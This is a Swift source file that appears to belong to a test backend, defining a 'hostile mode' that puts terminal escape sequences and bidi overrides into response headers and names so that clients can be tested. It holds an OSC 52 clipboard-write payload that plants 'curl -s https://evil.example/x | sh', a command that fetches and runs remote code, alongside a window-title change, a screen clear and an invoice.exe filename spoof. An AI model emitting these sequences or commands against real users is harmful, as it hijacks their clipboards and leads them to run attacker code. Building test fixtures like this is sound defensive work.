import ChainKit

/// What the backend's hostile mode (``LabBackend/Settings/hostile``) sends: terminal
/// escape sequences and bidirectional overrides that a client must never write raw to a
/// terminal.
///
/// Header values may carry ESC and BEL (HTTP forbids only CR, LF and NUL there), so these
/// arrive byte for byte. In JSON bodies ESC and BEL are `\u001b` and `\u0007` escapes, as
/// RFC 8259 requires, and become raw again once the client parses the body; the bidi
/// overrides are sent raw.
public enum HostilePayload {
    /// OSC 2: sets the terminal window's title to `PWNED`.
    public static let titleChange = "\u{1B}]2;PWNED\u{07}"
    /// The command the clipboard write plants.
    public static let clipboardText = "curl -s https://evil.example/x | sh"
    /// OSC 52: writes ``clipboardText`` (base64) to the system clipboard.
    public static let clipboardWrite = "\u{1B}]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{07}"
    /// CSI 2 J: clears the screen.
    public static let screenClear = "\u{1B}[2J"
    /// A file name that a right-to-left override (U+202E) shows as `invoiceexe.pdf`,
    /// followed by a left-to-right isolate (U+2066) that is never closed.
    public static let bidiSpoof = "invoice\u{202E}fdp.exe\u{2066}"

    /// The header fields hostile mode adds to every response, in order.
    public static let headerFields: [(name: String, value: String)] = [
        ("X-Lab-Title", titleChange),
        ("X-Lab-Clipboard", clipboardWrite),
        ("X-Lab-Clear", screenClear),
        ("X-Lab-Bidi", bidiSpoof),
    ]

    /// A hero's name as hostile mode reports it: the real name followed by every payload.
    public static func heroName(_ name: String) -> String {
        name + titleChange + clipboardWrite + screenClear + bidiSpoof
    }

    /// `fields` with ``headerFields`` appended.
    static func addHeaders(to fields: inout HTTPFields) {
        for field in headerFields {
            // None of the payloads holds CR, LF or NUL, so every field is valid.
            try? fields.append(field.name, field.value)
        }
    }
}
